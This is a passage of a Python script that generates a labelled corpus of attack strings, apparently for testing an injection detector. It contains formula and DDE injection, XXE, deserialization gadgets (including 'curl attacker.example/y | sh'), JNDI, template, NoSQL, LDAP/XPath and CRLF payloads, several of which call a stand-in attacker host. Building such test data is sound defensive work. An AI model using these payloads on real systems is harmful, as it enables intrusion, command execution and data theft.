    ("formula", "+cmd|' /C notepad'!'A1'"),
    ("formula", "-2+3+cmd|' /C whoami'!Z0"),
    ("formula", "=WEBSERVICE(\"https://attacker.example/leak?\"&ENCODEURL(C2))"),
    ("formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:A40),\"//a\")"),
    ("formula", "\"Sheep (40)\",\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\""),
    ("formula", "Macleod,=1+2;=cmd|'/c mshta http://attacker.example/h'!A1,car"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><manifest><vessel>&x;</vessel></manifest>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE booking [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><booking><ref>&s;</ref></booking>"),
    ("xxe", "<!DOCTYPE t [<!ENTITY % f SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hostname\"><!ENTITY % e \"<!ENTITY &#x25; o SYSTEM 'http://attacker.example/?%f;'>\">%e;%o;]><t/>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>"),
    ("xxe", "<!DOCTYPE lolz [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><n>&c;</n>"),
    ("deser", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deser", "a:1:{i:0;O:29:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"%00*%00socket\";N;}}"),
    ("deser", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXQABGNhbGM="),
    ("deser", "!!python/object/apply:os.system ['curl attacker.example/y | sh']"),
    ("deser", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c whoami\"]}}"),
    ("deser", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/Obj\",\"autoCommit\":true}"),
    ("deser", "cos\nsystem\n(S'id'\ntR."),
    ("deser", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: [!ruby/object:Gem::Source::SpecificFile {spec: &1 !ruby/object:Gem::StubSpecification {loaded_from: \"|id 1>&2\"}}]"),
]
CODE_POOL = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${jndi:ldap://attacker.example/c}",
             "<%= `whoami` %>", "#{7*191}${T(java.lang.Runtime).getRuntime().exec('id')}", "=cmd|' /C calc'!A1"]
CODE_PREFIX = ["Dear passenger, ", "Weather note: ", "Crew roster comment: ", "Manifest notes: "]

NOSQLI = [
    ("operator", "{\"ref\": {\"$ne\": null}}"),
    ("operator", "{\"username\": \"purser\", \"password\": {\"$gt\": \"\"}}"),
    ("operator", "{\"surname\": {\"$regex\": \"^M\"}, \"card\": {\"$exists\": true}}"),
    ("operator", "{\"vessel\": {\"$in\": [\"Loch Fyne\", {\"$gt\": \"\"}]}}"),
    ("operator", "{\"$or\": [{\"role\": \"admin\"}, {\"role\": {\"$ne\": \"x\"}}]}"),
    ("operator", "{\"booking_ref\": {\"$nin\": [\"\"]}}"),
    ("operator", "{\"pin\": {\"$regex\": \".*\"}}"),
    ("operator", "{\"email\": {\"$gte\": \" \"}, \"password\": {\"$ne\": 1}}"),
    ("operator", "{\"crew_id\": {\"$exists\": true}, \"$comment\": \"dump\"}"),
    ("param", "password[$ne]=x"),
    ("param", "ref[$gt]=&surname[$ne]=nobody"),
    ("param", "username[$regex]=^adm&password[$exists]=true"),
    ("param", "sailing[$nin][]=0715"),
    ("param", "user[$in][]=admin&user[$in][]=harbourmaster&pw[$ne]=1"),
    ("where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where", "{\"$where\": \"this.password.match(/^a/) != null\"}"),
    ("where", "'; return true; var x='"),
    ("where", "Oban' || this.role == 'admin' || 'a'=='b"),
    ("where", "1; while(true){}"),
    ("where", "{\"$where\": \"function(){ return Object.keys(this).length > 0 }\"}"),
    ("aggregate", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"s\"}}]"),
    ("aggregate", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate", "{\"filter\": {\"$expr\": {\"$eq\": [1, 1]}}}"),
    ("regex-dos", "{\"notes\": {\"$regex\": \"(a+)+$\"}}"),
    ("couch", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\"]}"),
    ("redis", "FT-1\r\nFLUSHALL\r\n"),
    ("elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"id\\\")\"}}}"),
]

CRLF = [
    ("log-forging", "Lost umbrella\n2024-06-01 07:15:02 INFO login ok user=harbourmaster ip=10.0.0.2"),
    ("log-forging", "late again\r\n[2024-11-02 09:00:00] AUDIT refund approved FT-3390 amount=450.00 by=ops_manager"),
    ("log-forging", "FT-00871%0d%0a127.0.0.1 - admin [01/Jun/2024:07:15:00 +0000] \"GET /admin HTTP/1.1\" 200"),
    ("log-forging", "wallet\nWARN crew roster deleted by system -- ignore previous alerts"),
    ("log-forging", "0715%0aERROR%20payment%20gateway%20down%20-%20switch%20to%20https://attacker.example/pay"),
    ("log-forging", "scarf\u2028INFO user=ops role changed to admin"),
    ("log-forging", "complaint closed\r\n\r\n=== NEW SESSION ===\r\nuser=root action=export_all"),
    ("header", "en\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header", "/timetable%0d%0aLocation:%20https://attacker.example/"),
    ("header", "FT-1%0D%0AX-Forwarded-For:%20127.0.0.1"),
    ("header", "fr%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example"),
    ("header", "de\rContent-Security-Policy: script-src *"),
    ("header", "/booking?lang=en%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header", "oban%0d%0aRefresh:%200;url=https://attacker.example/phish"),
    ("splitting", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("splitting", "x\r\n\r\n<html><body>Ferry cancelled, rebook at https://attacker.example/</body></html>"),
    ("splitting", "/notices%0d%0a%0d%0a%3Ch1%3EAll%20sailings%20free%3C/h1%3E"),
    ("splitting", "ok%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A0%0D%0A%0D%0AGET%20/admin%20HTTP/1.1%0D%0AHost:%20localhost"),
    ("mail-header", "passenger@example.org\r\nBcc: list@attacker.example"),
    ("mail-header", "Lost bag query\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("mail-header", "ops@ferry.example%0ABcc:%20harvest@attacker.example"),
    ("mail-header", "Refund request\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/refund>Claim</a>"),
    ("mail-header", "Aoife <aoife@example.ie>\nReply-To: support@attacker.example"),
    ("mail-header", "subject line%0d%0aTo:%20crew-all@ferry.example%0d%0a"),
    ("smtp", "hello\r\n.\r\nMAIL FROM:<ops@ferry.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nFree tickets!\r\n."),
    ("csv-row", "Macleod\",\"car\",\"GB\"\n\"=cmd|' /C calc'!A0\",\"van\",\"IE"),
    ("csv-row", "wallet\r\nFT-99999,Admin,foot,GB,refund=9999"),
    ("csv-row", "O'Brien\n=HYPERLINK(\"https://attacker.example/?\"&A1,\"details\"),x,y"),
    ("csv-row", "livestock 40 sheep\",\"2 decks\"\r\n\"TRL-0000\",\"0\",\"explosives: none\",\"cleared"),
    ("csv-row", "Smith;car;GB\n+SUM(1+1)*cmd|'/C whoami'!A0;x;y"),
]

LDAPX = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "purser)(|(password=*))"),
    ("ldap", "admin)(&)"),
    ("ldap", "*)(objectClass=*"),
    ("ldap", "j.macleod*)(memberOf=cn=harbour-admins,ou=groups,dc=ferry,dc=local"),
    ("ldap", "crew*)(|(telephoneNumber=*)(mail=*))"),
    ("ldap", "x)(!(cn=nobody))(cn=*"),
    ("ldap", "*)(userPassword=a*"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "deckhand))(|(cn=*"),
    ("xpath", "' or '1'='1"),
    ("xpath", "FT-00871' or name()='booking' or 'a'='b"),
    ("xpath", "x' or count(//crew/member)>0 or 'a'='b"),
    ("xpath", "']|//staff/password|//x['"),
    ("xpath", "' or substring(//user[1]/pin,1,1)='4' or ''='"),
    ("xpath", "Oban\" or \"1\"=\"1"),
    ("xpath", "') or ('x'='x"),
    ("xpath", "1 or 1=1]|//*|//*[1=1"),
    ("xpath", "x' or string-length(//manifest[1]/consignee)>5 or '1'='2"),
    ("xquery", "'] return doc('/db/staff.xml')//password || ['"),
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def joined(rng, pool, prefixes, n, seen, cls_of):
    out = []
    combos = [(p, q) for p in prefixes for q in pool]
    rng.shuffle(combos)
    for p, q in combos:
        v = p + q
        if v in seen:
            continue
        seen.add(v)
        out.append((cls_of(q), v))
        if len(out) == n:
            break
    assert len(out) == n
    return out


def main():
    rng = random.Random(SEED)
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    cats = []  # (cat, [(cls, value)], literal_count)

    def lit(cat, rows):
        return [(c, v) for c, v in rows]

    sq = lit("sqli", SQLI)
    for v in SQLI: seen.add(v[1])
    gen = joined(rng, SQLI_POOL, SQLI_PREFIX, 4, seen, lambda q: "prefix-join")
    gen += [(c + "+urlencode", urlencode_all(v)) for c, v in SQLI_URLENC]
    cats.append(("sqli", sq + gen, len(sq)))

    xs = lit("xss", XSS)
    for v in XSS: seen.add(v[1])
    cats.append(("xss", xs + joined(rng, XSS_POOL, XSS_PREFIX, 4, seen, lambda q: "prefix-join"), len(xs)))

    cm = lit("cmdi", CMDI)
    for v in CMDI: seen.add(v[1])
    cats.append(("cmdi", cm + joined(rng, CMDI_POOL, CMDI_PREFIX, 4, seen, lambda q: "prefix-join"), len(cm)))

    tr = lit("traversal", TRAV)
    cats.append(("traversal", tr + [("dotdot+urlencode", urlencode_all(v)) for v in TRAV_URLENC], len(tr)))

    ss = lit("ssrf", SSRF)
    for v in SSRF: seen.add(v[1])
    cats.append(("ssrf", ss + joined(rng, SSRF_POOL, SSRF_PREFIX, 4, seen, lambda q: "prefix-join"), len(ss)))

    co = lit("code", CODE)
    for v in CODE: seen.add(v[1])
    cats.append(("code", co + joined(rng, CODE_POOL, CODE_PREFIX, 2, seen, lambda q: "prefix-join"), len(co)))

    cats.append(("nosqli", list(NOSQLI), len(NOSQLI)))
    cats.append(("crlf", list(CRLF), len(CRLF)))
    cats.append(("ldap-xpath", list(LDAPX), len(LDAPX)))

    # fix urlencode class names
    rows = []
    allv = set()
    for cat, items, nlit in cats:
        for cls, v in items:
            assert 1 <= len(v) <= 2000, v
            assert v not in benign, v
            assert v not in allv, ("dup", v)
            for ch in v:
                if ord(ch) < 32 and ch not in "\n\r\t":
                    raise SystemExit("control char in %r" % v)
            allv.add(v)
            rows.append((cat, cls, v))
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "haku-%05d" % i, "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    tot = 0
    tl = 0
    for cat, items, nlit in cats:
        print(cat, len(items), nlit)
        tot += len(items); tl += nlit
    print("total", tot, "literals", tl, "%.1f%%" % (100.0 * tl / tot))


if __name__ == "__main__":
    main()
